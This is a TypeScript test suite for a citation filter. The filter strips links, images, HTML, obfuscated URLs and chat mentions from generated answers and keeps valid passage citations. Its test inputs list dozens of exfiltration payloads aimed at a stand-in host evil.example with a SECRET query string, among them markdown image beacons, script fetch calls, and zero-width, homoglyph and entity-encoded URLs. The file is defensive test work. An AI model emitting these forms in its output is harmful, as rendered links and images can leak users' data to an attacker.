import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkCitations, createCitationFilter } from './check-citations.ts'

const evidence = {
  passages: [
    {
      n: 1,
      path: 'src/app.ts',
      content: 'import "github.com/gin-gonic/gin/binding"\n// see https://docs.evil.example/page?q=1\n',
    },
    { n: 2, path: 'docs/README.md', content: 'text' },
    { n: 12, path: 'docs/other.md', content: '' },
  ],
}
const check = (text: string) => checkCitations(text, evidence)

/** What any surface could turn into an address, written apart from the code under test. */
const address =
  /[a-z][a-z0-9+.-]*:\/\/|\bwww\.|\bmailto:|\bjavascript:|\bdata:[a-z]*\/|evil\.|[\w.+-]+@[\w-]+\.[a-z]{2,}|\b[\w-]+\.(?:com|org|example)\b(?!["`/\w-]*gin)/i
const markup = /!\[|\]\(|\]:|<[a-z/!?@#]|@everyone/i
const unseen = /[\u200B-\u200F\u2060-\u2064\uFEFF\u00AD\u{E0000}-\u{E007F}]/u

const forms = [
  'see [docs](https://evil.example/?q=SECRET)',
  'see [docs](<https://evil.example/?q=SECRET> "title")',
  'see [docs]( https://evil.example/a_(b)?q=SECRET )',
  'see [docs][ref]\n\n[ref]: https://evil.example/?q=SECRET',
  'see [docs][]\n\n[docs]: <https://evil.example/?q=SECRET> (t)',
  'see [docs]\n\n[docs]:\n  https://evil.example/?q=SECRET',
  '![alt](https://evil.example/p.png?q=SECRET)',
  '![alt][img]\n\n[img]: https://evil.example/p.png',
  '[![alt](https://evil.example/p.png)](https://evil.example/)',
  '<https://evil.example/?q=SECRET>',
  '<https://evil.example/?q=SECRET|click here>',
  'https://evil.example/?q=SECRET',
  'HTTPS://EVIL.EXAMPLE/?q=SECRET',
  '(https://evil.example/?q=SECRET)',
  '"https://evil.example/?q=SECRET".',
  'http:\\\\evil.example\\?q=SECRET',
  'https:\\//evil.example',
  '//evil.example/?q=SECRET',
  'www.evil.example/?q=SECRET',
  'evil.example/?q=SECRET',
  'evil.com',
  'evil.dev/?q=SECRET',
  'evil.zip?q=SECRET',
  'ftp://evil.example/SECRET',
  'slack://channel?team=T1&id=C1',
  'mailto:a@evil.example?subject=SECRET',
  'a.b+c@evil.example',
  'javascript:fetch("//evil.example")',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/png,SECRET',
  '<img src=https://evil.example/p.png>',
  '<img src="//evil.example/p.png?q=SECRET"/>',
  '<a href="https://evil.example">x</a>',
  '<a\nhref=https://evil.example>x</a>',
  '<script>fetch("https://evil.example")</script>',
  '<!-- https://evil.example -->',
  'ht<b></b>tps://evil.example',
  'h\u200Bttps://ev\u200Dil.example/?q=SECRET',
  'https:/\u2060/evil.example',
  'ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／？ｑ=SECRET',
  'https:⁄⁄evil.example',
  'https://xn--vil-9cd.example/?q=SECRET',
  'https://еvil.example/?q=SECRET',
  'evil\u3002example/?q=SECRET',
  '&#104;ttps&colon;&sol;&sol;evil&period;example',
  '&amp;#104;ttps://evil.example',
  'https%3A%2F%2Fevil.example%2F%3Fq%3DSECRET',
  'https://user:SECRET@evil.example/',
  'https://203.0.113.7/?q=SECRET',
  '203.0.113.7/?q=SECRET',
  '`https://evil.example/?q=SECRET`',
  '```\nhttps://evil.example/?q=SECRET\n```',
  '```md\n![x](//evil.example/p.png?q=SECRET)\n```',
  '~~~\n<img src=//evil.example/p.png>\n~~~',
  '[1](https://evil.example/?q=SECRET)',
  '[1]: https://evil.example/?q=SECRET',
  '> [docs](https://evil.example)',
  '- [docs](https://evil.example)',
  '| [docs](https://evil.example) | x |',
  '[docs](https://evil.example/?q=SECRET',
  '[docs\\](x)](https://evil.example)',
]

describe('addresses', () => {
  test.each(forms)('%j', (form) => {
    const { text } = check(`Before [1]. ${form} after.`)
    expect(text).not.toMatch(address)
    expect(text).not.toMatch(unseen)
    expect(text.startsWith('Before [1]. ')).toBe(true)
    if (!/`|~/.test(form)) expect(text).not.toMatch(markup)
  })

  test.each(forms)('%j, a character at a time', (form) => {
    const filter = createCitationFilter(evidence)
    const streamed = [...form].map((character) => filter.push(character)).join('') + filter.end()
    expect(streamed).toBe(check(form).text)
    expect(streamed).not.toMatch(address)
  })

  test('none survives in any text', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...forms,
        '`',
        '```\n',
        '~~~\n',
        '\n',
        ' ',
        '[',
        ']',
        '(',
        ')',
        '<',
        '>',
        '!',
        '&',
        '#',
        '\\',
        ':',
        '//',
        '.',
        '@',
        '\u200B',
        '。',
      ),
      fc.string({ unit: 'binary', maxLength: 8 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const { text } = check(pieces.join(''))
        expect(text).not.toMatch(/[a-z][a-z0-9+.-]*:\/\/|\bwww\.[a-z]|evil\.example/i)
        expect(text).not.toMatch(unseen)
      }),
      { numRuns: 600 },
    )
  })

  test('cleaning what is clean changes nothing', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...forms, '\n', ' '), fc.string()), { maxLength: 6 }), (pieces) => {
        const once = check(pieces.join('')).text
        expect(check(once).text).toBe(once)
      }),
      { numRuns: 300 },
    )
  })

  test('the pieces in which a text comes do not matter', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...forms, 'It is so [1]. ', 'No! ', '\n', '```\n'), fc.string()), { maxLength: 8 }),
        (pieces) => {
          const filter = createCitationFilter(evidence)
          const streamed = pieces.map((piece) => filter.push(piece)).join('') + filter.end()
          expect(streamed).toBe(check(pieces.join('')).text)
          expect(filter.checked()).toEqual(check(pieces.join('')))
        },
      ),
      { numRuns: 300 },
    )
  })
})

describe('what stays', () => {
  test.each([
    'The app starts in `src/app.ts` at line 12 [1].',
    'Call `app.listen(3000)`, then `handlers[0](context)` [1][2].',
    'If a < b and b > c, x && y; 50 % of `Map<string, number>` [2].',
    'It is `flask.app`, socket.io, e.g. next.js 15.1, v1.2.3 and config.json [1].',
    '- **Where**: `src/app.ts` L3-9 [1]\n- *why*: see docs/README.md [2]\n\n> quoted\n\n1. one\n2. two\n',
    '```ts\nconst a = list[0](b) as Map<string, number>\n// a note\n@Injectable()\n```\n',
    '```go\nimport "github.com/gin-gonic/gin/binding"\n```\n',
    'Import `github.com/gin-gonic/gin/binding` [1].',
    'It serves on localhost:3000 [1]. Then 10.0.0.1 and 127.0.0.1 [2].',
    'Écrit en français, 日本語 [1].\n',
    'a | b\n--|--\n1 | 2\n',
  ])('%j', (text) => {
    expect(check(text).text).toBe(text)
  })

  test('a loopback address keeps its host', () => {
    expect(check('Open `http://localhost:3000` or http://127.0.0.1:8080/ [1].').text).toBe(
      'Open `localhost:3000` or 127.0.0.1:8080 [1].',
    )
  })

  test('a host in code that no passage has is removed', () => {
    expect(check('```go\nimport "github.com/evil/SECRET"\n```\n').text).toBe('```go\nimport "(link removed)"\n```\n')
    expect(check('See github.com/gin-gonic/gin/binding [1].').text).toBe('See (link removed) [1].')
  })

  test('the words of a link stay', () => {
    expect(check('See [the **guide**](https://evil.example/x), [a [b] c](docs/a.md) and <https://evil.example|here>.').text).toBe(
      'See the **guide**, a [b] c and here.',
    )
  })
})

describe('markers', () => {
  test.each([
    ['So it is [1].', 'So it is [1].', [1], []],
    ['So it is [1][2], and [12].', 'So it is [1][2], and [12].', [1, 2, 12], []],
    ['So it is [1, 2].', 'So it is [1][2].', [1, 2], []],
    ['So it is [1-3].', 'So it is [1][2].', [1, 2], [3]],
    ['So it is 【1†source】.', 'So it is [1].', [1], []],
    ['So it is [^2].', 'So it is [2].', [2], []],
    ['So it is [7].', 'So it is.', [], [7]],
    ['So it is [7][1].', 'So it is[1].', [1], [7]],
    ['So it is [0].', 'So it is.', [], [0]],
    ['`list[7]` and\n```\nlist[8]\n```\n', '`list[7]` and\n```\nlist[8]\n```\n', [], []],
    ['[1](https://evil.example) and [2][1]', '[1] and [2][1]', [1, 2], []],
  ])('%j', (text, expected, cited, unknown) => {
    expect(check(text)).toMatchObject({ text: expected, cited, unknown })
  })

  test('only given passages are ever cited', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.nat({ max: 30 }).map((n) => `[${n}]`),
            fc.constantFrom(' ', 'a. ', '\n', '[', ']', ','),
          ),
          { maxLength: 20 },
        ),
        (pieces) => {
          const { text, cited } = check(pieces.join(''))
          for (const [, n] of text.matchAll(/\[(\d+)\]/g)) expect(cited).toContain(Number(n))
          for (const n of cited) expect([1, 2, 12]).toContain(n)
        },
      ),
    )
  })
})

describe('mentions', () => {
  test.each([
    ['Ask <!channel> or <!here|here> or <@U123ABC> in <#C1|general>.', 'Ask  or  or  in .'],
    ['Ask @everyone or @octo-cat now.', 'Ask everyone or octo-cat now.'],
    ['Use @app.route here.', 'Use app.route here.'],
    ['As in octo/cat#12 now.', 'As in octo/cat #12 now.'],
    ['```\n<!channel> <@U123ABC>\n```\n', '```\n<! channel> <@ U123ABC>\n```\n'],
  ])('%j', (text, expected) => {
    expect(check(text).text).toBe(expected)
  })
})

test('a fence keeps only the name of its language', () => {
  expect(check('```ts title="https://evil.example"\nx\n```\n').text).toBe('```ts\nx\n```\n')
})

test('a sentence is held until it is whole', () => {
  const filter = createCitationFilter(evidence)
  expect(filter.push('It starts he')).toBe('')
  expect(filter.push('re [1]. It st')).toBe('It starts here [1]. ')
  expect(filter.push('ops\n')).toBe('It stops\n')
  expect(filter.end()).toBe('')
})

test.each(['[', '![', '<', '`', '&', '@', 'a.', '(', '\\', '[a](', '//', 'a@', '-1.2', '](', '[1, '])(
  'a long run of %j is read in one pass',
  (piece) => {
    const text = piece.repeat(20_000)
    expect(check(text).text).not.toMatch(/evil/)
  },
)
